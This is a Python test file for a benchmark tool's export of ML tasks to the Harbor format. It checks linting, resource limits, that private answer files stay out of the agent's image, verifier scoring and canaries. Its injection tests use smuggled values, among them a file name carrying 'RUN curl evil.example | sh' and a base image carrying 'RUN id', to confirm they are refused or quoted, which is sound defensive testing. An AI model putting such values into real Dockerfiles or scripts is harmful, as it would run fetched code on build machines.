"""`mlab export-task --to harbor`: every bundled task as a Harbor task that Harbor's own linter
accepts, with no private file in the agent's build context, a verifier that scores with mlab's
scorer, and clear refusals of bad input that leave nothing behind.

The lint needs Harbor (PyPI `harbor`, Python >= 3.12): MLAB_TEST_HARBOR names its `harbor`
command, else one on PATH is used; .ci/run makes one. Without it the lint test skips, saying so.
"""
from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import shutil
import subprocess
import tomllib
from pathlib import Path

import pytest

from needs import missing

from mlab.documents.view import thaw

REPO = Path(__file__).resolve().parents[2]
TASKS = sorted(p.name[: -len(".mlab")] for p in (REPO / "tasks").glob("*.mlab") if p.name != "experiments.mlab")


def mlab(*args) -> tuple[int, str, str]:
    from mlab.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main([str(a) for a in args])
    return code, out.getvalue(), err.getvalue()


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def files_under(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file())


@pytest.fixture(scope="module")
def cache(tmp_path_factory):
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MLAB_CACHE", str(tmp_path_factory.mktemp("harbor-cache")))
        patch.setenv("SCIKIT_LEARN_DATA", str(tmp_path_factory.mktemp("harbor-sklearn")))
        yield


@pytest.fixture(scope="module")
def exported(cache, tmp_path_factory) -> Path:
    """Every bundled task exported once (lite data), through the command line."""
    out = tmp_path_factory.mktemp("harbor") / "tasks"
    code, stdout, stderr = mlab("export-task", *TASKS, "--to", "harbor", "-o", out)
    assert code == 0, stderr
    assert f"{len(TASKS)} Harbor tasks in {out}" in stdout
    return out


@pytest.fixture(scope="module")
def compiled(exported) -> dict:
    """name → TaskBuild: the bundled tasks compiled together (the build the export made, from the cache)."""
    from mlab.build import compile_into_cache, find_task_source

    build = compile_into_cache([find_task_source(name) for name in TASKS])
    return {name: build.task(name) for name in TASKS}


def harbor_command() -> str | None:
    named = os.environ.get("MLAB_TEST_HARBOR")
    if named:
        return named if Path(named).is_file() else None
    return shutil.which("harbor")


def test_every_bundled_task_passes_harbors_own_lint(exported):
    harbor = harbor_command()
    if harbor is None:
        missing("no Harbor to lint with: set MLAB_TEST_HARBOR to a `harbor` command (pip install harbor, "
                "Python >= 3.12) or put one on PATH; .ci/run makes one")
    done = subprocess.run([harbor, "lint", "--json", *(str(exported / t) for t in TASKS)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    assert json.loads(done.stdout) == [], done.stdout  # the default rules, none broken


def test_task_toml_carries_limits_hardware_no_network_and_a_separate_verifier(exported, compiled):
    for name in TASKS:
        folder = exported / name
        config = tomllib.loads((folder / "task.toml").read_text())
        task = compiled[name]
        lite = thaw(task.variant("lite").limits)
        hardware = thaw(task.view.hardware)
        assert config["schema_version"] == "1.4"
        assert config["task"]["name"] == f"mlab/{name}"
        assert config["agent"]["network_mode"] == "no-network"
        assert config["agent"]["user"] == "agent"
        assert config["agent"]["timeout_sec"] == lite.get("time", task.view.limits.time)
        assert config["verifier"]["environment_mode"] == "separate"
        assert config["verifier"]["timeout_sec"] >= 300
        for environment in (config["environment"], config["verifier"]["environment"]):
            assert environment["cpus"] == hardware["cpus"]
            assert environment["memory_mb"] == hardware["memory"] // 2 ** 20
            assert environment["gpus"] == hardware["gpus"]
        assert config["artifacts"] == [{"source": "/workspace"}]
        assert config["metadata"]["metric"] == task.view.metric.name
        # both images: a pinned Python base, every requirement pinned exactly
        for context in ("environment", "tests"):
            dockerfile = (folder / context / "Dockerfile").read_text()
            assert dockerfile.splitlines()[1].startswith("FROM python:3.")
            pins = (folder / context / "requirements.txt").read_text().split()
            assert pins and all("==" in pin for pin in pins)
        agent_pins = {pin.split("==")[0] for pin in (folder / "environment" / "requirements.txt").read_text().split()}
        for requirement in task.view.requires:
            assert requirement.split("==")[0] in agent_pins
        assert list((folder / "tests").glob("mlab_harness-*.whl"))
        assert "mlab.export.harbor_verify" in (folder / "tests" / "test.sh").read_text()
        instruction = (folder / "instruction.md").read_text()
        assert instruction.startswith(f"# {task.view.title}") and "## What you submit" in instruction
        assert task.view.submission.file in instruction


def test_no_private_file_is_in_the_agent_environment(exported, compiled):
    from mlab.data.prepare import prepare_data

    for name in TASKS:
        prepared = prepare_data(compiled[name], "lite")
        public_copies = {sha256(p) for p in files_under(prepared.public)}  # babylm's vocab.txt is both
        private = {sha256(p): p.name for p in files_under(prepared.private) if sha256(p) not in public_copies}
        context = exported / name / "environment"
        leaked = [f"{p.relative_to(context)} is private {private[sha256(p)]}"
                  for p in files_under(context) if sha256(p) in private]
        assert not leaked, f"{name}: {leaked}"
        private_names = {p.name for p in files_under(prepared.private)} - {p.name for p in files_under(prepared.public)}
        assert not [p for p in files_under(context) if p.name in private_names], name
        # the build context is the Dockerfile, the pins and the workspace (starter + public data), nothing else
        assert {p.name for p in context.iterdir()} == {"Dockerfile", "requirements.txt", "workspace"}
        public = {p.relative_to(prepared.public).as_posix() for p in files_under(prepared.public)}
        shipped = {p.relative_to(context / "workspace").as_posix() for p in files_under(context / "workspace")}
        assert public <= shipped
        # and the verifier holds every private file
        verifier = {sha256(p) for p in files_under(exported / name / "tests" / "mlab" / "private")}
        assert set(private) <= verifier


def test_the_verifier_scores_a_winning_submission_a_success_and_none_a_failure(exported, tmp_path):
    import pandas as pd

    from mlab.export.harbor_verify import main as verify

    folder = exported / "house-price"
    home = folder / "tests" / "mlab"
    solve = (folder / "solution" / "solve.sh").read_text()  # the demonstration's winning script, then its run
    assert "cp -r /solution/files/. /workspace/" in solve and solve.rstrip().endswith("python train_improved.py")
    assert (folder / "solution" / "files" / "train_improved.py").read_bytes() == \
        (REPO / "tasks" / "house-price" / "solution" / "train_improved.py").read_bytes()

    # a near-perfect submission (the answers, a little off) in a copy of the agent's workspace
    shutil.copytree(folder / "environment" / "workspace", tmp_path / "won")
    answers = pd.read_csv(home / "private" / "answers.csv")
    answers["SalePrice"] = answers["SalePrice"] * 1.01
    answers[["Id", "SalePrice"]].to_csv(tmp_path / "won" / "submission.csv", index=False)
    assert verify(["--home", str(home), "--workspace", str(tmp_path / "won"), "--logs", str(tmp_path / "logs-won")]) == 0
    reward = json.loads((tmp_path / "logs-won" / "reward.json").read_text())
    assert reward["success"] == 1 and reward["improvement"] >= 0.10 and 0 < reward["score"] < 5000
    result = json.loads((tmp_path / "logs-won" / "result.json").read_text())
    assert result["metric"] == "mae" and result["failure_mode"] is None
    assert result["baseline"]["value"] == json.loads((home / "export.json").read_text())["baseline"]["value"]

    shutil.copytree(folder / "environment" / "workspace", tmp_path / "untouched")  # no submission.csv
    assert verify(["--home", str(home), "--workspace", str(tmp_path / "untouched"),
                   "--logs", str(tmp_path / "logs-none")]) == 0
    assert json.loads((tmp_path / "logs-none" / "reward.json").read_text()) == {"success": 0}
    result = json.loads((tmp_path / "logs-none" / "result.json").read_text())
    assert result["failure_mode"] == "submission format error" and "no submission" in result["detail"]


BROKEN_TASK = """\
use std "agents"

task broken {
  title "A task whose data cannot be made"
  category canonical
  problem "Write submission.csv with the columns Id and y."
  starter "env"
  data lite { from generate "make.py:make" split none public ["x.csv"] private ["answers.csv"] }
  submission "submission.csv" columns ["Id", "y"]
  metric mae on "y" lower_is_better
  baseline 1.0 because "there is no starter"
  success improvement >= 10%
  agent research
  limits { steps 5  time 5m  script_timeout 1m }
}
"""


def test_bad_input_is_refused_and_leaves_nothing(cache, tmp_path):
    code, _, stderr = mlab("export-task", "no-such-task", "--to", "harbor", "-o", tmp_path / "a")
    assert code == 2 and "no task named 'no-such-task'" in stderr and "house-price" in stderr
    assert not (tmp_path / "a").exists()

    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "keep.txt").write_text("mine")
    code, _, stderr = mlab("export-task", "house-price", "--to", "harbor", "-o", tmp_path / "full")
    assert code == 2 and "is not empty" in stderr
    assert [p.name for p in (tmp_path / "full").iterdir()] == ["keep.txt"]

    source = tmp_path / "broken" / "broken.mlab"
    source.parent.mkdir()
    source.write_text(BROKEN_TASK)
    (source.parent / "env").mkdir()
    (source.parent / "env" / "train.py").write_text("print('nothing')\n")
    (source.parent / "make.py").write_text("def make(public, private, seed):\n    raise OSError('the source is gone')\n")
    out = tmp_path / "out" / "tasks"
    code, _, stderr = mlab("export-task", "house-price", source, "--to", "harbor", "-o", out)
    assert code == 1, stderr
    assert "task broken: its lite data cannot be prepared" in stderr and "the source is gone" in stderr
    assert "Traceback" not in stderr
    assert not out.parent.exists()  # no half-written export, no staging left, not even the folder it made


TINY_TASK = """\
use std "agents"

task tiny {
  title "A tiny task"
  category canonical
  problem "Predict y from x. Write submission.csv with the columns Id and y."
  starter "env"
  read_only ["train.csv", "test.csv"]
  data lite { from csv "rows.csv" split random 0.2 seed 1 id "Id" answers ["y"]
              public ["train.csv", "test.csv"] private ["answers.csv"] }
  submission "submission.csv" columns ["Id", "y"]
  metric mae on "y" lower_is_better
  baseline run "train.py"
  success improvement >= 10%
  agent research
  limits { steps 5  time 5m  script_timeout 1m }
}
"""

TINY_TRAIN = """\
import pandas as pd
test = pd.read_csv("test.csv")
test["y"] = pd.read_csv("train.csv")["y"].mean()
test[["Id", "y"]].to_csv("submission.csv", index=False)
"""


def test_a_task_without_demonstration_or_recorded_baseline_gets_one_measured_and_no_solution(exported, tmp_path):
    (tmp_path / "env").mkdir()
    (tmp_path / "env" / "train.py").write_text(TINY_TRAIN)
    (tmp_path / "rows.csv").write_text("\n".join(["Id,x,y"] + [f"{i},{i},{2 * i + 1}" for i in range(20)]) + "\n")
    (tmp_path / "tiny.mlab").write_text(TINY_TASK)
    wheel = next((exported / "house-price" / "tests").glob("*.whl"))
    pinned = "python:3.11-slim@sha256:" + "0123456789abcdef" * 4  # --base-image: both images start from it
    code, _, stderr = mlab("export-task", tmp_path / "tiny.mlab", "--to", "harbor", "-o", tmp_path / "out",
                           "--wheel", wheel, "--base-image", pinned)
    assert code == 0, stderr
    folder = tmp_path / "out" / "tiny"
    for image in (folder / "environment" / "Dockerfile", folder / "tests" / "Dockerfile"):
        assert [line for line in image.read_text().splitlines() if line.startswith("FROM ")] == [f"FROM {pinned}"]
    assert not (folder / "solution").exists()
    baseline = json.loads((folder / "tests" / "mlab" / "export.json").read_text())["baseline"]
    assert baseline["measured"] and baseline["script"] == "train.py" and baseline["value"] > 0
    assert f"The starter scores {baseline['value']:.6g} (mae)" in (folder / "instruction.md").read_text()
    dockerfile = (folder / "environment" / "Dockerfile").read_text()
    assert "chmod 0444 /workspace/test.csv /workspace/train.csv" in dockerfile  # the read-only files


# --- names written into the Dockerfile and the scripts (issue 25) ------------------------------

def _task_with_read_only(patterns):
    from types import SimpleNamespace

    return SimpleNamespace(view=SimpleNamespace(read_only=list(patterns)))


def test_a_read_only_file_named_with_a_newline_is_refused_not_injected(tmp_path):
    from mlab.export.harbor_files import ExportError, agent_dockerfile

    (tmp_path / "notes\nRUN curl evil.example | sh\n#.txt").write_text("x")
    with pytest.raises(ExportError) as caught:
        agent_dockerfile(_task_with_read_only(["*.txt"]), "python:3.11-slim", tmp_path)
    assert str(caught.value) == (
        "the read-only file '/workspace/notes\\nRUN curl evil.example | sh\\n#.txt' holds the control character '\\n' "
        "(a newline, NUL or another): it cannot be written into a Dockerfile or shell script, rename it")


def test_read_only_names_are_quoted_as_one_shell_word(tmp_path):
    from mlab.export.harbor_files import agent_dockerfile

    (tmp_path / "it's $(here) `x`.txt").write_text("x")
    dockerfile = agent_dockerfile(_task_with_read_only(["*.txt"]), "python:3.11-slim", tmp_path)
    run = [line for line in dockerfile.splitlines() if line.startswith("RUN chown agent")][0]
    assert run.endswith("&& chmod 0444 '/workspace/it'\"'\"'s $(here) `x`.txt'")
    assert len(dockerfile.splitlines()) == 8


@pytest.mark.parametrize("name", ["tab\there.py", "nul\x00.py", "esc\x1b[2J.py", "cr\r.py"])
def test_control_characters_cannot_be_quoted_into_a_script(name):
    from mlab.export.harbor_files import ExportError, shell_word

    with pytest.raises(ExportError, match="cannot be written into a Dockerfile or shell script"):
        shell_word(name, "the demonstration script")


def test_a_base_image_with_a_newline_is_refused(tmp_path):
    from mlab.export.harbor_files import ExportError, agent_dockerfile, verifier_dockerfile

    for write in (lambda base: agent_dockerfile(_task_with_read_only([]), base, tmp_path),
                  lambda base: verifier_dockerfile(base, "mlab.whl")):
        with pytest.raises(ExportError, match="the base image 'python\\\\nRUN id' cannot be written"):
            write("python\nRUN id")


def test_every_exported_task_carries_its_canary_in_the_workspace_and_instruction(exported, compiled):
    from mlab.run.canary import canary_guid

    for name in TASKS:
        guid = canary_guid(name, compiled[name].view.version)
        assert guid in (exported / name / "environment" / "workspace" / "CANARY.txt").read_text(), name
        assert guid in (exported / name / "instruction.md").read_text(), name
